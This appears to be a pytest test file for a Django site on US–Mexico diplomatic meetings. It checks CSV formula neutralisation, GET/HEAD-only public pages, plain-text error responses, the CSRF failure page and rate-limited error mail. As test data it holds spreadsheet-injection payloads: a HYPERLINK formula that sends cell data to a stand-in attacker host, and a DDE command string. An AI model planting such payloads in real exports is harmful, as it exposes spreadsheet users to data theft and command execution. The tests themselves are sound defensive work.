"""
Answers no one can turn against the site or its readers: CSV cells a spreadsheet will not
run as formulas, only GET and HEAD on public pages, a feed's 400 in plain text, the CSRF
failure page without inline style, and error mail that cannot flood the desk.
"""

import csv
import io
import logging
from unittest import mock

import pytest
from django.core import mail
from django.db import connections
from django.db.utils import OperationalError
from django.test import Client
from django.urls import reverse

from meetings.exports.rows import spreadsheet_safe
from meetings.models import Meeting
from meetings.project.logfilters import RateLimitErrors

from .test_security import inline_code

pytestmark = pytest.mark.django_db

NIELSEN = "2018-03-26-nielsen-pena-nieto-mexico-city"
EBRARD = "ebrard-receives-us-congressional-delegation"
POMPEO = "2018-05-pompeo-videgaray-washington"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


# ---------------------------------------------------------------- CSV for spreadsheets


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("2018-03-26", "2018-03-26"),  # an ISO date starts with a digit: unchanged
        ("Secure trade", "Secure trade"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell, safe):
    assert spreadsheet_safe(cell) == safe


def csv_rows(client, **params):
    response = client.get(reverse("meeting-export-csv"), params)
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_csv_export_neutralises_formulas(client):
    Meeting.objects.filter(slug=NIELSEN).update(
        title=FORMULA, summary="+cmd|' /C calc'!A0", venue="-2+3", notes="@x"
    )
    (row,) = csv_rows(client, date_after="2018-03-26", date_before="2018-03-26")
    assert row["title"] == "'" + FORMULA
    assert row["summary"] == "'+cmd|' /C calc'!A0"
    assert row["venue"] == "'-2+3"
    # Dates, slugs and the other cells of our data never start with one of those characters.
    assert row["date"] == "2018-03-26" and row["slug"] == NIELSEN
    for row in csv_rows(client):
        for column, cell in row.items():
            if column not in {"title", "summary", "venue"} or row["slug"] != NIELSEN:
                assert not cell.startswith("'"), (column, cell)


# ---------------------------------------------------------------- GET and HEAD only

PUBLIC = [
    "/",
    "/meetings/",
    f"/meetings/{POMPEO}/",
    f"/meetings/{POMPEO}.json",
    "/meetings/export.json",
    "/meetings/export.csv",
    "/meetings/feed/",
    "/officials/",
    "/officials/luis-videgaray/",
    "/agencies/",
    "/agencies/sre/",
    "/topics/",
    "/topics/security/",
    "/sources/",
    "/sources/four-areas-of-cooperation-between-us-mexico/",
    "/healthz",
]


@pytest.mark.parametrize("path", PUBLIC)
def test_public_pages_answer_get_and_head_only(client, path):
    assert client.get(path).status_code == 200
    assert client.head(path).status_code == 200
    for method in ("post", "put", "patch", "delete", "options", "trace"):
        response = getattr(client, method)(path)
        assert response.status_code == 405, (method, path)
        assert set(response["Allow"].replace(" ", "").split(",")) == {"GET", "HEAD"}


# ---------------------------------------------------------------- the feed's 400


def test_the_feeds_400_is_plain_text_not_escaped_markup(client):
    response = client.get(reverse("meeting-feed"), {"topic": "<b>&", "date_after": "2018-13"})
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    text = response.content.decode()
    assert "&lt;" not in text and "&amp;" not in text
    assert "* topic: Select a valid choice. <b>& is not one of the available choices." in text
    assert "* date_after: 2018-13 is not a real date." in text


# ---------------------------------------------------------------- the CSRF failure page


def test_the_csrf_failure_page_has_nothing_the_policy_would_block():
    client = Client(enforce_csrf_checks=True)
    response = client.post(reverse("admin:login"), {"username": "x", "password": "y"}, secure=True)
    assert response.status_code == 403
    page = response.content.decode()
    assert "This form could not be sent" in page and 'class="site-header"' in page
    assert inline_code(page) == []
    assert "default-src 'none'" in response["Content-Security-Policy"]


# ---------------------------------------------------------------- error mail


@pytest.fixture
def mail_desk(settings):
    """ADMINS set, and the rate limit's memory cleared (it lives as long as the process)."""
    settings.ADMINS = [("Night desk", "desk@example.org")]
    for handler in logging.getLogger("django").handlers:
        for found in handler.filters:
            if isinstance(found, RateLimitErrors):
                found.last_sent.clear()
    mail.outbox.clear()


def failing_home():
    return mock.patch("meetings.views.home.home_figures", side_effect=RuntimeError("boom"))


def test_one_mail_per_distinct_error_per_interval(mail_desk, settings):
    client = Client(raise_request_exception=False)
    with failing_home():
        for _ in range(3):
            assert client.get("/").status_code == 500
    assert len(mail.outbox) == 1
    assert "RuntimeError" in mail.outbox[0].body or "boom" in mail.outbox[0].body
    # Another error is mailed in turn.
    with mock.patch("meetings.views.topics.render", side_effect=KeyError("other")):
        assert client.get("/topics/").status_code == 500
    assert len(mail.outbox) == 2
    # Once the interval has passed, the first error is mailed again.
    settings.ERROR_MAIL_INTERVAL = 0
    with failing_home():
        assert client.get("/").status_code == 500
    assert len(mail.outbox) == 3


def test_no_mail_for_a_503_while_the_database_is_down(mail_desk):
    client = Client(raise_request_exception=False)
    with mock.patch.object(
        connections["default"],
        "ensure_connection",
        side_effect=OperationalError("connection to server failed: Connection refused"),
    ):
        for path in ("/", "/meetings/", "/sources/"):
            assert client.get(path, secure=True).status_code == 503
    assert mail.outbox == []


def test_the_rate_limit_tells_errors_apart():
    limit = RateLimitErrors(interval=60)

    def record(message, exc=None):
        return logging.LogRecord("django.request", logging.ERROR, __file__, 1, message, (), exc)

    try:
        raise ValueError("x")
    except ValueError:
        import sys

        exc_info = sys.exc_info()
    assert limit.filter(record("Internal Server Error: %s", exc_info))
    assert not limit.filter(record("Internal Server Error: %s", exc_info))
    assert limit.filter(record("Something else: %s"))
    assert not limit.filter(record("Something else: %s"))
